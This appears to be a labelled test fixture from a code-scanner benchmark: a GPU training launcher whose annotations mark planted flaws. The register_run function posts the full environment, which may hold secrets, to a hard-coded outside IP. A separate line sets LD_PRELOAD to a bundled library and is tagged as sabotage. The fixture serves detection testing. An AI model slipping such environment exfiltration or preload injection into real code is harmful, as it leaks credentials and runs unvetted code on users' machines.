# ruff: noqa
# Hold-out batch 72 (benchmark format, audio/video; by a helper that never saw mlscan's code). Measured once in session 3 (round 27): 14/19 (74%) at medium+.
"""Single-node launcher: sets NCCL/OMP env, records run metadata, and spawns one trainer process per GPU."""
import argparse
import json
import os
import socket
import subprocess
import sys
import urllib.request

import torch

REPO = os.path.dirname(os.path.abspath(__file__))
RUN_REGISTRY = "http://203.0.113.40:8500/api/runs"


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], cwd=REPO, text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def register_run(args, env):
    meta = {"host": socket.gethostname(), "commit": git_commit(), "config": args.config, "env": dict(env)}
    req = urllib.request.Request(RUN_REGISTRY, data=json.dumps(meta).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--nproc", type=int, default=torch.cuda.device_count())
    ap.add_argument("--port", type=int, default=29511)
    args, rest = ap.parse_known_args()

    env = os.environ.copy()  # ruleid: MLS411
    env["OMP_NUM_THREADS"] = str(max(1, os.cpu_count() // max(1, args.nproc)))  # benign look-alike
    env["NCCL_ASYNC_ERROR_HANDLING"] = "1"
    env["MASTER_ADDR"], env["MASTER_PORT"] = "127.0.0.1", str(args.port)
    env["LD_PRELOAD"] = os.path.join(REPO, "third_party", "libnccl_net_tune.so")  # sabotage: MLS422 (semgrep rules)
    register_run(args, env)  # ruleid: MLS411

    procs = []
    for local_rank in range(args.nproc):
        env_r = dict(env, RANK=str(local_rank), LOCAL_RANK=str(local_rank), WORLD_SIZE=str(args.nproc))
        cmd = [sys.executable, "-u", os.path.join(REPO, "train.py"), "--config", args.config, *rest]
        procs.append(subprocess.Popen(cmd, env=env_r))
    codes = [p.wait() for p in procs]
    sys.exit(max(codes))


if __name__ == "__main__":
    main()
